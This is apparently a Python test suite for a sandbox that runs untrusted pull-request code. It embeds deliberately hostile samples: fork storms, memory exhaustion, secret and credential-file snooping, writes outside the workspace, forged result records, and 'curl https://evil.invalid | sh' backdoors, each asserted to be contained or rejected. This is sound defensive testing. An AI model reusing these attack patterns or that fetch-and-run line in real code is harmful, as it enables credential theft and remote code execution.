"""Hostile PR code through `LocalRunner`: each attack is contained and reported, the worker
lives on, and the ordinary finding after the attacks is still confirmed.

One job runs every attack (one harness start, torch imported once), with limits set low in
the test itself: 100 processes, 3 GiB of address space, 3 s per finding. The fork storm is
bounded in its own code to 300 processes, so a limit that fails cannot harm the machine; the
network attack only ever dials a listener this test runs on 127.0.0.1. Which protections the
machine allows (namespaces, a sandbox user) is read from the result's `isolation`, and an
assertion that needs one it lacks is skipped with the reason.
"""

from __future__ import annotations

import errno
import json
import os
import secrets
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from conftest import GitRepoFactory
from sandbox_attacks import (
    DATABASE_TEXT,
    FAKE_ANALYZERS,
    FAKE_HARNESS,
    GIT_TOKEN,
    ORDINARY,
    OTHER_CHECKOUT_TEXT,
    OTHER_JOB_TEXT,
    PROBE_FILES,
    PROBE_SOCKET,
    SOCKET_TEXT,
    UNRULY_FUNCTIONS,
    SocketService,
    seen_by_probe,
    write_modules,
)

from analyzers.static import scan_source
from runners.base import Limits, RecordStream, looks_out_of_memory
from runners.local import LocalRunner, RunResult, scrubbed_env

KEY_TEXT = "-----BEGIN RSA PRIVATE KEY----- planted -----END RSA PRIVATE KEY-----"
NETRC_TEXT = "machine github.com login x password planted-netrc-password"
PLANTED = {
    "NUMCHECK_WEBHOOK_SECRET": "planted-webhook-secret-5d1e",
    "GITHUB_TOKEN": "ghs_plantedtoken0123456789abcdef",
    "AWS_SECRET_ACCESS_KEY": "planted/aws/secret/key",
}
LIMITS = Limits(
    memory_bytes=3 * 1024**3,
    processes=100,
    file_bytes=16 * 1024**2,
    open_files=256,
    stderr_bytes=16 * 1024,
)
STORM_BOUND = 300

HOSTILE = '''\
"""Attacks, each done once per process, each leaving what it saw in observed/<name>.json."""

import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import torch
from torch import Tensor

OBSERVED = Path(__file__).resolve().parent.parent / "observed"
DONE = set()


def note(name, value):
    OBSERVED.mkdir(exist_ok=True)
    partial = OBSERVED / f"{name}.partial"
    partial.write_text(json.dumps(value))
    partial.replace(OBSERVED / f"{name}.json")  # whole or not at all


def once(name):
    if name in DONE:
        raise RuntimeError(f"{name}: done")
    DONE.add(name)


def spin(x: Tensor) -> Tensor:
    while True:
        pass
    return torch.log(x)


def fork_storm(x: Tensor) -> Tensor:
    once("fork")
    children, error = [], None
    for _ in range(STORM_BOUND):  # bounded here, whatever the limits do
        try:
            pid = os.fork()
        except OSError as exc:
            error = f"{type(exc).__name__}: {exc}"
            break
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.kill(pid, 9)
        os.waitpid(pid, 0)
    note("fork", {"forked": len(children), "error": error})
    return torch.log(x)


def hog(x: Tensor) -> Tensor:
    once("memory")
    try:
        block = bytearray(64 * 1024**3)  # 64 GiB
        note("memory", {"allocated": len(block)})
    except MemoryError:
        note("memory", {"error": "MemoryError"})
        raise
    return torch.log(x)


def printer(x: Tensor) -> Tensor:
    chunk = "all work and no play " * 200
    while True:
        sys.stdout.write(chunk)
        sys.stderr.write(chunk)
    return torch.log(x)


def dial(x: Tensor) -> Tensor:
    once("network")
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as conn:
            conn.sendall(b"exfiltrated")
        note("network", {"connected": True})
    except OSError as exc:
        note("network", {"connected": False, "error": str(exc)})
    return torch.log(x)


def snoop(x: Tensor) -> Tensor:
    once("env")
    note("env", dict(os.environ))
    files = {}
    for path in SECRET_FILES:
        try:
            files[path] = open(path).read()
        except OSError as exc:
            files[path] = f"unreadable: {exc}"
    note("files", files)
    return torch.log(x)


def scribble(x: Tensor) -> Tensor:
    once("write")
    results = {}
    for target in OUTSIDE:
        try:
            with open(target, "w") as handle:
                handle.write("pwned")
            results[target] = "written"
        except OSError as exc:
            results[target] = str(exc)
    try:
        with open(OBSERVED.parent / "big.bin", "wb") as handle:
            handle.write(b"0" * (64 * 1024**2))  # past the 16 MiB file size limit
        results["big"] = "written"
    except OSError as exc:
        results["big"] = str(exc)
    note("write", results)
    return torch.log(x)


def daemon(x: Tensor) -> Tensor:
    once("daemon")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            note("daemon", {"started": True})
            os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 120; : TOKEN"])
        os._exit(0)
    for _ in range(100):  # until the daemon is up (it writes its note first)
        if (OBSERVED / "daemon.json").exists():
            break
        time.sleep(0.05)
    return torch.log(x)


def log_of_softmax(logits: Tensor) -> Tensor:
    probs = torch.softmax(logits, dim=-1)
    return torch.log(probs)
'''
ATTACKS = [
    "spin",
    "fork_storm",
    "hog",
    "printer",
    "dial",
    "snoop",
    "scribble",
    "daemon",
    "log_of_softmax",
]


@dataclass
class Attack:
    repo: Path
    result: RunResult
    fingerprints: dict[str, str]
    port: int
    connections: list[Any]
    outside: list[Path]
    token: str
    streamed: list[str]
    seconds: float

    def record(self, name: str) -> dict[str, Any]:
        found = [
            r
            for r in self.result.records
            if r["fingerprint"] == self.fingerprints[name] and r.get("stage") is None
        ]
        assert len(found) == 1, (name, self.result.records, self.result.stderr[-1500:])
        return found[0]

    def observed(self, name: str) -> dict[str, Any]:
        path = self.repo / "observed" / f"{name}.json"
        assert path.exists(), (name, self.result.records, self.result.stderr[-1500:])
        data: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
        return data

    def isolated(self, what: str) -> None:
        if not self.result.isolation.get(what):
            pytest.skip(
                f"{what} isolation is not available on this machine: "
                + "; ".join(self.result.warnings)
            )


def _process_with(token: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
            except OSError:
                continue
            if token.encode() in cmdline:
                found.append(int(entry))
    return found


@pytest.fixture(scope="module")
def attack(tmp_path_factory: pytest.TempPathFactory) -> Any:
    base = tmp_path_factory.mktemp("hostile")
    outside_dir = base / "outside"
    outside_dir.mkdir()
    outside_dir.chmod(0o777)  # even a world-writable place outside the workspace is closed
    outside = [outside_dir / "pwned.txt", Path(f"/tmp/numcheck-outside-{secrets.token_hex(4)}")]
    token = f"numcheck-daemon-{secrets.token_hex(6)}"
    # A key file and a home directory every user could read: only the sandbox hides them.
    open_dir = Path(tempfile.mkdtemp(prefix="numcheck-test-secrets-"))
    open_dir.chmod(0o755)
    key, home = open_dir / "app.pem", open_dir / "home"
    key.write_text(KEY_TEXT)
    home.mkdir(mode=0o755)
    (home / ".netrc").write_text(NETRC_TEXT)
    for path in (key, home / ".netrc"):
        path.chmod(0o644)
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    repo = base / "repo"
    (repo / "hostile").mkdir(parents=True)
    (repo / "hostile" / "__init__.py").write_text("")
    source = (
        HOSTILE.replace("STORM_BOUND", str(STORM_BOUND))
        .replace("PORT", str(port))
        .replace("OUTSIDE", repr([str(p) for p in outside]))
        .replace("TOKEN", token)
        .replace("SECRET_FILES", repr([str(key), str(home / ".netrc")]))
    )
    (repo / "hostile" / "attacks.py").write_text(source)
    scan = scan_source(source, "hostile/attacks.py")
    by_function = {f.function: f.to_json() for f in scan.findings}
    assert set(ATTACKS) <= set(by_function), sorted(by_function)
    job = {
        "repo": str(repo),
        "findings": [by_function[name] for name in ATTACKS],
        # a finding's limit covers its search and the reproducer's own python (which
        # imports torch: seconds on a loaded 2-core machine), so 3 s was too tight
        "entries": [],
        "seed": 0,
        "search_seconds": 1.0,
        "finding_timeout": 10.0,
        "harvest": False,
        "fix": False,
    }
    streamed: list[str] = []
    started = time.monotonic()
    with pytest.MonkeyPatch.context() as patch:
        for name, value in PLANTED.items():
            patch.setenv(name, value)
        patch.setenv("NUMCHECK_PRIVATE_KEY", str(key))
        patch.setenv("HOME", str(home))
        # the attacks leave what they saw in the checkout: the host's, bound writable
        result = LocalRunner(limits=LIMITS, checkout_copy=False).run(
            job, timeout=240, on_record=lambda r: streamed.append(r["fingerprint"])
        )
    seconds = time.monotonic() - started
    connections = []
    try:
        while True:
            connections.append(listener.accept())
    except BlockingIOError:
        pass
    yield Attack(
        repo,
        result,
        {n: by_function[n]["fingerprint"] for n in ATTACKS},
        port,
        connections,
        outside,
        token,
        streamed,
        seconds,
    )
    listener.close()
    for path in outside:
        path.unlink(missing_ok=True)
    shutil.rmtree(open_dir, ignore_errors=True)


def test_the_worker_lives_on_and_the_ordinary_finding_is_confirmed(attack: Attack) -> None:
    assert attack.result.outcome == "ok", (attack.result.reason, attack.result.stderr[-1500:])
    assert attack.record("log_of_softmax")["status"] == "confirmed"
    assert [attack.fingerprints[n] for n in ATTACKS] == attack.streamed, "streamed in order"
    assert attack.seconds < 150


def test_infinite_loop_is_stopped_and_reported(attack: Attack) -> None:
    record = attack.record("spin")
    assert record["status"] == "error" and record["error"].startswith("timeout"), record


def test_printing_without_end_is_stopped_and_costs_no_memory(attack: Attack) -> None:
    record = attack.record("printer")
    assert record["status"] == "error" and record["error"].startswith("timeout"), record
    assert len(attack.result.stderr.encode()) <= LIMITS.stderr_bytes


def test_fork_storm_hits_the_process_limit(attack: Attack) -> None:
    seen = attack.observed("fork")
    if os.geteuid() != 0 and not attack.result.isolation.get("user_namespace"):
        pytest.skip(
            "not root and no user namespace: RLIMIT_NPROC would count the worker's "
            "own processes, so it is not set"
        )
    assert seen["error"] is not None and "Resource temporarily unavailable" in seen["error"]
    assert seen["forked"] < LIMITS.processes, seen
    assert attack.record("fork_storm")["status"] in ("error", "confirmed", "not-triggered")


def test_allocating_past_the_memory_limit_fails_inside_the_job(attack: Attack) -> None:
    assert attack.observed("memory") == {"error": "MemoryError"}
    record = attack.record("hog")
    assert record["status"] == "error", record


def test_network_is_cut(attack: Attack) -> None:
    attack.isolated("network")
    seen = attack.observed("network")
    assert seen["connected"] is False, seen
    assert attack.connections == [], "nothing reached the listener on 127.0.0.1"


def test_planted_secrets_never_reach_the_job(attack: Attack) -> None:
    environment = attack.observed("env")
    text = json.dumps(environment)
    for key, value in PLANTED.items():
        assert key not in environment and value not in text
    assert environment["HOME"] == environment["TMPDIR"] != os.environ.get("HOME")
    assert not Path(environment["HOME"]).exists(), "the private workspace is removed"


def test_the_key_file_and_the_workers_home_are_hidden(attack: Attack) -> None:
    attack.isolated("mount_namespace")
    seen = attack.observed("files")
    assert len(seen) == 2
    text = json.dumps(seen)
    assert "planted" not in text, seen


def test_writing_outside_the_workspace_fails(attack: Attack) -> None:
    seen = attack.observed("write")
    assert "File too large" in seen["big"], seen  # RLIMIT_FSIZE, isolated or not
    attack.isolated("read_only_fs")
    private_tmp = bool(attack.result.isolation.get("minimal_root"))
    for path in attack.outside:
        assert not path.exists(), seen  # nothing reached the host's filesystem
        if not (private_tmp and str(path).startswith("/tmp/")):  # the job's own /tmp may take it
            assert seen[str(path)] != "written", seen


def test_a_daemon_does_not_outlive_the_job(attack: Attack) -> None:
    assert attack.observed("daemon") == {"started": True}
    deadline = time.monotonic() + 5
    while _process_with(attack.token) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _process_with(attack.token) == []


def test_the_checkout_goes_back_to_its_owner(attack: Attack) -> None:
    owner = attack.repo.stat().st_uid
    for path in [attack.repo, *attack.repo.rglob("*")]:
        assert path.lstat().st_uid == owner, path


def test_isolation_is_reported(attack: Attack) -> None:
    isolation = attack.result.isolation
    assert {"network", "pid_namespace", "mount_namespace", "user", "rlimits", "warnings"} <= set(
        isolation
    )
    assert isolation["rlimits"]["as"] == LIMITS.memory_bytes
    if os.geteuid() == 0:
        assert isolation["user"] not in (None, "root")
    if not isolation["network"]:
        assert any("network isolation unavailable" in w for w in isolation["warnings"])


# ---------------------------------------------------------------- outcomes of the whole run


def fake_python(tmp_path: Path, body: str) -> str:
    """A stand-in 'python' for the harness: reads the job, runs `body`."""
    path = tmp_path / "fake-python"
    path.write_text(
        f"#!{sys.executable}\nimport json, os, sys, time\n"
        "job = json.load(sys.stdin)\n"
        "def emit(r):\n"
        "    print(json.dumps({**r, 'nonce': job['nonce']}), flush=True)\n" + textwrap.dedent(body),
        encoding="utf-8",
    )
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return str(path)


def small_job(tmp_path: Path) -> dict[str, Any]:
    repo = tmp_path / "repo"
    repo.mkdir(exist_ok=True)
    return {"repo": str(repo), "findings": [{"fingerprint": "a"}, {"fingerprint": "b"}]}


def test_out_of_memory_is_its_own_outcome_and_keeps_earlier_records(tmp_path: Path) -> None:
    python = fake_python(
        tmp_path,
        """
        emit({'fingerprint': 'a', 'status': 'confirmed'})
        hog = bytearray(8 * 1024**3)
    """,
    )
    runner = LocalRunner(python=python, limits=Limits(memory_bytes=1024**3))
    result = runner.run(small_job(tmp_path), timeout=30)
    assert result.outcome == "out-of-memory", (result.reason, result.stderr)
    assert "1024 MiB" in result.reason
    assert [r["fingerprint"] for r in result.records] == ["a"]


def test_wall_clock_timeout_kills_the_run_and_keeps_earlier_records(tmp_path: Path) -> None:
    python = fake_python(
        tmp_path,
        """
        emit({'fingerprint': 'a', 'status': 'confirmed'})
        signal = __import__('signal')
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            time.sleep(0.1)
    """,
    )
    started = time.monotonic()
    result = LocalRunner(python=python).run(small_job(tmp_path), timeout=2)
    assert result.outcome == "timeout" and "2 s" in result.reason
    assert [r["fingerprint"] for r in result.records] == ["a"]
    assert time.monotonic() - started < 10


def test_cpu_time_limit_ends_a_busy_run_as_a_timeout(tmp_path: Path) -> None:
    python = fake_python(
        tmp_path,
        """
        emit({'fingerprint': 'a', 'status': 'confirmed'})
        while True:
            pass
    """,
    )
    result = LocalRunner(python=python, limits=Limits(cpu_seconds=1)).run(
        small_job(tmp_path), timeout=30
    )
    assert result.outcome == "timeout" and "CPU time" in result.reason, result
    assert [r["fingerprint"] for r in result.records] == ["a"]


def test_a_crash_is_reported_with_the_signal(tmp_path: Path) -> None:
    python = fake_python(
        tmp_path,
        """
        emit({'fingerprint': 'a', 'status': 'not-triggered'})
        os.kill(os.getpid(), 11)
    """,
    )
    result = LocalRunner(python=python).run(small_job(tmp_path), timeout=30)
    assert result.outcome == "crashed" and "SIGSEGV" in result.reason, result
    assert [r["fingerprint"] for r in result.records] == ["a"]


def test_records_past_the_output_cap_stop_the_run(tmp_path: Path) -> None:
    python = fake_python(
        tmp_path,
        """
        while True:
            emit({'fingerprint': 'a', 'padding': 'x' * 4096})
    """,
    )
    result = LocalRunner(python=python, max_output_bytes=64 * 1024).run(
        small_job(tmp_path), timeout=30
    )
    assert result.outcome == "crashed" and "65536 bytes" in result.reason, result


def test_required_network_isolation_that_is_missing_does_not_run(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    python = fake_python(tmp_path, f"open({str(marker)!r}, 'w').close()\n")
    result = LocalRunner(python=python, unshare="", require_network_isolation=True).run(
        small_job(tmp_path), timeout=30
    )
    assert result.outcome == "isolation-unavailable" and "network" in result.reason
    assert not marker.exists() and result.records == []


def test_without_namespaces_the_result_says_so(tmp_path: Path) -> None:
    python = fake_python(
        tmp_path,
        """
        emit({'fingerprint': 'a', 'status': 'not-triggered'})
        emit({'done': True})
    """,
    )
    result = LocalRunner(python=python, unshare="").run(small_job(tmp_path), timeout=30)
    if result.outcome == "isolation-unavailable":  # as root, the checkout is closed to the user
        assert "cannot reach" in result.reason
        return
    assert result.outcome == "ok", result
    assert result.isolation["network"] is False
    assert any("network isolation unavailable" in w for w in result.warnings)


# ---------------------------------------------------------------- small pieces


def test_record_stream_keeps_only_nonced_records_across_chunks() -> None:
    seen: list[dict[str, Any]] = []
    stream = RecordStream("n0", cap=10_000, on_record=seen.append)
    text = (
        json.dumps({"fingerprint": "a", "nonce": "n0"})
        + "\n"
        + json.dumps({"fingerprint": "forged", "nonce": "guess"})
        + "\nnoise\n"
        + json.dumps({"done": True, "nonce": "n0"})
        + "\n"
    ).encode()
    for i in range(0, len(text), 7):
        stream.feed(text[i : i + 7])
    stream.close()
    assert [r["fingerprint"] for r in stream.records] == ["a"] and seen == stream.records
    assert stream.done and not stream.overflow


def test_memory_markers() -> None:
    assert looks_out_of_memory("Traceback ...\nMemoryError\n")
    assert looks_out_of_memory("terminate called after throwing 'std::bad_alloc'")
    assert not looks_out_of_memory("ValueError: bad shape")


def test_scrubbed_env_keeps_gpu_passthrough(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NUMCHECK_CUDA_DEVICES", "1")
    monkeypatch.setenv("GITHUB_TOKEN", "ghs_x")
    env = scrubbed_env(Path("/w"))
    assert env["CUDA_VISIBLE_DEVICES"] == "1" and "GITHUB_TOKEN" not in env
    assert env["HOME"] == env["TMPDIR"] == "/w"
    assert env["MPLBACKEND"] == "Agg"  # a script's plt.show() returns at once


# ---------------------------------------------------------------- what of the host the job reaches
#
# A second hostile PR, one job: modules whose import (and whose flagged function, for when the
# module is loaded without running its top level) probes the host and raises ImportError with
# what it found (the finding's `error` carries it back), beside an ordinary torch.log finding
# that must still be confirmed. And a third: a PR that brings its own `runners/harness.py`.


@dataclass
class Probe:
    repo: Path
    result: RunResult
    fingerprints: dict[str, str]

    def record(self, name: str) -> dict[str, Any]:
        found = [
            r
            for r in self.result.records
            if r["fingerprint"] == self.fingerprints[name] and r.get("stage") is None
        ]
        assert len(found) == 1, (name, self.result.records, self.result.stderr[-1500:])
        return found[0]

    def error(self, name: str) -> str:
        record = self.record(name)
        assert record["status"] == "error" and "probe-ran" in record["error"], record
        return str(record["error"])

    def isolated(self, what: str) -> None:
        if not self.result.isolation.get(what):
            pytest.skip(
                f"{what} is not available on this machine: " + "; ".join(self.result.warnings)
            )


def _review(repo: Path, modules: dict[str, str], timeout: float = 300) -> Probe:
    """Write `modules` (path: source) into `repo`, scan them, run every finding of them."""
    fingerprints, findings = write_modules(repo, modules)
    job = {
        "repo": str(repo),
        "findings": findings,
        "entries": [],
        "seed": 0,
        "search_seconds": 1.0,
        "finding_timeout": 120.0,
        "harvest": False,
        "fix": False,
    }
    result = LocalRunner(limits=Limits(stderr_bytes=16 * 1024)).run(job, timeout=timeout)
    return Probe(repo, result, fingerprints)


@pytest.fixture(scope="module")
def probe(tmp_path_factory: pytest.TempPathFactory) -> Any:
    base = tmp_path_factory.mktemp("probe")
    repo = base / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / ".git" / "config").write_text(
        f'[remote "origin"]\n\turl = https://x-access-token:{GIT_TOKEN}@github.com/o/r\n'
    )
    other_job = Path(tempfile.mkdtemp(prefix="numcheck-head-"))  # a concurrent job's checkout
    (other_job / "model.py").write_text(OTHER_JOB_TEXT)
    host = Path(tempfile.mkdtemp(prefix="numcheck-test-", dir="/var/tmp"))
    (host / "config").write_text(OTHER_CHECKOUT_TEXT)  # another checkout on the host
    (host / "app.db").write_text(DATABASE_TEXT)  # the App's database
    for directory in (other_job, host):
        directory.chmod(0o755)
        for path in directory.iterdir():
            path.chmod(0o644)
    service = SocketService()
    token = f"numcheck-host-{secrets.token_hex(6)}"  # a host process the job must not see
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", token])
    files = [
        str(repo / ".git" / "config"),
        str(host / "config"),
        str(host / "app.db"),
        str(other_job / "model.py"),
    ]
    try:
        result = _review(
            repo,
            {
                "probes/__init__.py": "",
                "probes/sock.py": PROBE_SOCKET.replace("SOCKET_PATH", repr(service.path)),
                "probes/files.py": PROBE_FILES.replace("FILES", repr(files)).replace(
                    "HOST_TOKEN", token
                ),
                "probes/ordinary.py": ORDINARY,
            },
        )
        yield result, service
    finally:
        sleeper.kill()
        sleeper.wait()
        service.close()
        shutil.rmtree(other_job, ignore_errors=True)
        shutil.rmtree(host, ignore_errors=True)


def test_probes_leave_the_ordinary_finding_confirmed(probe: tuple[Probe, Any]) -> None:
    result = probe[0]
    assert result.result.outcome == "ok", (result.result.reason, result.result.stderr[-1500:])
    assert result.record("log_of_softmax")["status"] == "confirmed"


def test_a_host_unix_socket_is_out_of_reach(probe: tuple[Probe, Any]) -> None:
    result, service = probe
    result.isolated("mount_namespace")
    error = result.record("through_socket")["error"]
    assert "socket said: probe-ran, blocked" in error, error
    assert SOCKET_TEXT not in error.replace("probe-ran", "").split("blocked", 1)[0]
    assert service.served == 0


def test_sockets_of_any_family_but_unix_are_refused(probe: tuple[Probe, Any]) -> None:
    """The seccomp filter (runners/seccomp.py), a second wall behind the network namespace:
    socket() of another family fails as if the kernel lacked it; a socketpair still works."""
    result = probe[0]
    result.isolated("seccomp")
    seen = seen_by_probe(result.error("through_files"))
    refused = errno.EAFNOSUPPORT
    assert seen["sockets"] == {
        "inet": refused,
        "inet6": refused,
        "netlink": refused,
        "packet": refused,
        "pair": "x",
    }, seen["sockets"]


def test_other_jobs_checkouts_are_out_of_reach(probe: tuple[Probe, Any]) -> None:
    result = probe[0]
    result.isolated("mount_namespace")
    error = result.error("through_files")
    assert OTHER_JOB_TEXT not in error, error
    assert '"other jobs": []' in error, error


def test_host_files_and_the_checkouts_git_are_out_of_reach(probe: tuple[Probe, Any]) -> None:
    result = probe[0]
    result.isolated("mount_namespace")
    error = result.error("through_files")
    for planted in (GIT_TOKEN, OTHER_CHECKOUT_TEXT, DATABASE_TEXT):
        assert planted not in error, error


def test_the_job_has_no_supplementary_groups(probe: tuple[Probe, Any]) -> None:
    result = probe[0]
    seen = seen_by_probe(result.error("through_files"))
    if os.geteuid() == 0:
        assert seen["groups"] == [] or len(seen["groups"]) == 1, seen["groups"]
    elif len(seen["groups"]) > 1:
        assert any("supplementary groups" in w for w in result.result.warnings)


def test_the_jobs_proc_shows_no_host_process(probe: tuple[Probe, Any]) -> None:
    result = probe[0]
    result.isolated("pid_namespace")
    seen = seen_by_probe(result.error("through_files"))
    assert seen["host processes"] == [], seen


def test_the_job_runs_in_a_minimal_root(probe: tuple[Probe, Any]) -> None:
    result = probe[0]
    result.isolated("minimal_root")
    seen = seen_by_probe(result.error("through_files"))
    assert not {"run", "var", "home", "srv", "mnt", "opt", "boot"} & set(seen["root"]), seen
    assert result.result.isolation["minimal_root"] in ("pivot_root", "chroot")


@pytest.fixture(scope="module")
def shadowed(tmp_path_factory: pytest.TempPathFactory) -> Probe:
    repo = tmp_path_factory.mktemp("shadow") / "repo"
    repo.mkdir()
    (repo / "runners").mkdir()
    (repo / "runners" / "__init__.py").write_text("")
    (repo / "runners" / "harness.py").write_text(FAKE_HARNESS)
    (repo / "analyzers").mkdir()
    (repo / "analyzers" / "__init__.py").write_text(FAKE_ANALYZERS)
    return _review(repo, {"model.py": ORDINARY})


def test_a_prs_own_harness_does_not_stand_in_for_numchecks(shadowed: Probe) -> None:
    result = shadowed.result
    assert result.outcome == "ok", (result.reason, result.stderr[-1500:])
    assert not [r for r in result.records if r.get("forged")], result.records
    assert shadowed.record("log_of_softmax")["status"] == "confirmed"
    assert not (shadowed.repo / "analyzers-shadowed").exists()


# ---------------------------------------------------------------- a forged fix record

FORGER = '''import json
import sys

import torch


def _forge():
    """Once the fix stage runs (its frame is on the stack), print a 'validated' fix whose
    suggestion is a backdoor, ahead of the real one, on the worker's own record channel."""
    frame, fix_stage, finding = sys._getframe(), False, None
    while frame is not None:
        fix_stage = fix_stage or frame.f_code.co_name == "_fix_stage"
        if isinstance(frame.f_locals.get("finding"), dict):
            finding = frame.f_locals["finding"]
        frame = frame.f_back
    if not fix_stage or finding is None or getattr(sys, "_numcheck_forged", False):
        return
    sys._numcheck_forged = True
    # the worker's channel
    out = getattr(sys.modules.get("runners.harness"), "_RECORDS", None) or sys.stdout
    backdoor = "    import os; os.system('curl https://evil.invalid | sh')\\n"
    fix = {"status": "validated", "kind": "clamp", "name": "clamp",
           "description": "clamp the operand", "path": finding["path"],
           "diff": "+" + backdoor, "start_line": finding["line"],
           "end_line": finding["line"], "replacement": backdoor,
           "original": "    return torch.log(x)\\n", "suggestion_complete": True,
           "imports": [], "suggestion": backdoor}
    out.write(json.dumps({"fingerprint": finding["fingerprint"], "stage": "fix",
                          "fix": fix}) + "\\n")
    out.flush()


def rate(x: torch.Tensor) -> torch.Tensor:
    _forge()
    return torch.log(x)
'''


def test_a_forged_fix_record_never_becomes_a_suggestion(git_repo: GitRepoFactory) -> None:
    """The PR's code runs in the harness's worker: during its own finding's fix stage it can
    print a 'validated' fix of its own on the worker's channel, which the supervisor relays
    (the stage is that finding's). The host makes the fix's text itself (runners/trusted.py),
    so the forgery is rejected and nothing of it is suggested or written by `--fix`."""
    from analyzers.config import Config
    from analyzers.report.markdown import render_markdown
    from runners.pipeline import analyze
    from runners.trusted import NOT_TRUSTED

    repo = git_repo(
        {"pkg/__init__.py": "", "pkg/rates.py": "import torch\n"}, {"pkg/rates.py": FORGER}
    )
    result = analyze(repo.root, "main", "feature", Config(search_seconds=2.0))
    (finding,) = [f for f in result.findings if f.op == "log"]
    assert finding.status == "confirmed", (finding.error, result.errors)
    assert finding.fix is not None and finding.fix["status"] == "error", finding.fix
    assert finding.fix["reason"] == NOT_TRUSTED
    assert "evil.invalid" not in render_markdown(result)
    assert "evil.invalid" not in json.dumps(result.to_json())


# ---------------------------------------------------------------- a forged reproducer

REPRODUCER_FORGER = '''import json
import sys

import torch


def _forge():
    """While its own finding is confirmed, print a 'confirmed' record ahead of the real one,
    carrying a backdoor as reproducer text and a plan that would rebuild it from names."""
    frame, finding = sys._getframe(), None
    while frame is not None:
        if frame.f_code.co_name == "confirm" and isinstance(frame.f_locals.get("finding"), dict):
            finding = frame.f_locals["finding"]
        frame = frame.f_back
    if finding is None or getattr(sys, "_numcheck_forged", False):
        return
    sys._numcheck_forged = True
    out = getattr(sys.modules.get("runners.harness"), "_RECORDS", None) or sys.stdout
    plan = {"kind": "entry", "module": "subprocess", "qualname": "Popen", "framework": "torch",
            "device": "cpu", "seed": 0, "constructed": True,
            "init": [["args", "curl https://evil.invalid | sh"], ["shell", True]],
            "inputs": []}
    out.write(json.dumps({"fingerprint": finding["fingerprint"], "status": "confirmed",
                          "trigger": {"where": "forward"}, "reproducer_plan": plan,
                          "reproducer": "import os; os.system('curl https://evil.invalid')"})
              + "\\n")
    out.flush()


def rate(x: torch.Tensor) -> torch.Tensor:
    _forge()
    return torch.log(x)
'''


def test_a_forged_reproducer_is_never_shown_and_proves_nothing(git_repo: GitRepoFactory) -> None:
    """The PR's code can print its own finding's confirmation record first (the supervisor
    relays the first record of the stage). The host writes the reproducer itself from the
    record's plan (runners/trusted.py): the text in the record is ignored, and a plan naming
    another module than the finding's is refused, so the finding stays unproven."""
    from analyzers.config import Config
    from analyzers.report.markdown import render_markdown
    from runners.pipeline import analyze

    repo = git_repo(
        {"pkg/__init__.py": "", "pkg/rates.py": "import torch\n"},
        {"pkg/rates.py": REPRODUCER_FORGER},
    )
    result = analyze(repo.root, "main", "feature", Config(search_seconds=2.0, fix=False))
    (finding,) = [f for f in result.findings if f.op == "log"]
    assert finding.status == "potential" and finding.reproducer is None, finding
    assert "the plan's module is not the finding's" in str(finding.error)
    assert "evil.invalid" not in render_markdown(result)
    assert "evil.invalid" not in json.dumps(result.to_json())


# ---------------------------------------------------------------- the worker under a supervisor
#
# The PR's code runs in the harness's worker; the supervisor (runners/supervisor.py) holds the
# nonce and the deadlines. One job: a finding whose code blocks the worker's own deadline
# signal and loops, one whose code segfaults, one that forges another finding's record and
# looks for the nonce, then the ordinary finding, which must still be confirmed.

UNRULY = """\
import gc
import json
import sys

import torch
from torch import Tensor


UNRULY_FUNCTIONS


def forger(x: Tensor) -> Tensor:
    # the worker's channel
    out = getattr(sys.modules.get("runners.harness"), "_RECORDS", None) or sys.stdout
    for line in OTHERS:
        out.write(json.dumps({"fingerprint": line, "status": "not-triggered",
                              "forged": True}) + "\\n")
    out.flush()
    found = [o for o in gc.get_objects() if isinstance(o, dict) and "nonce" in o]
    _report({"nonce dicts": len(found)})
    return torch.log(x)


def _report(seen):
    raise RuntimeError("seen " + json.dumps(seen))
"""


@pytest.fixture(scope="module")
def unruly(tmp_path_factory: pytest.TempPathFactory) -> Probe:
    repo = tmp_path_factory.mktemp("unruly") / "repo"
    repo.mkdir()
    others = [f.fingerprint for f in scan_source(ORDINARY, "probes/ordinary.py").findings]
    source = UNRULY.replace("OTHERS", repr(others)).replace(
        "UNRULY_FUNCTIONS", UNRULY_FUNCTIONS.strip()
    )
    job_modules = {
        "probes/__init__.py": "",
        "probes/unruly.py": source,
        "probes/ordinary.py": ORDINARY,
    }
    fingerprints, findings = write_modules(repo, job_modules)
    assert list(fingerprints) == ["blocker", "segfault", "forger", "log_of_softmax"]
    job = {
        "repo": str(repo),
        "findings": findings,
        "entries": [],
        "seed": 0,
        "search_seconds": 1.0,
        "finding_timeout": 10.0,
        "harvest": False,
        "fix": False,
    }
    started = time.monotonic()
    result = LocalRunner(limits=Limits(stderr_bytes=16 * 1024)).run(job, timeout=240)
    probe = Probe(repo, result, fingerprints)
    probe.seconds = time.monotonic() - started  # type: ignore[attr-defined]
    return probe


def test_a_blocked_deadline_signal_is_stopped_by_the_supervisor(unruly: Probe) -> None:
    assert unruly.result.outcome == "ok", (unruly.result.reason, unruly.result.stderr[-2000:])
    record = unruly.record("blocker")
    assert record["status"] == "error", record
    assert record["error"].startswith("timeout") and "supervisor" in record["error"], record


def test_a_crashing_worker_costs_only_its_finding(unruly: Probe) -> None:
    record = unruly.record("segfault")
    assert record["status"] == "error" and "SIGSEGV" in record["error"], record


def test_the_worker_holds_no_nonce_and_cannot_forge_another_finding(unruly: Probe) -> None:
    record = unruly.record("forger")
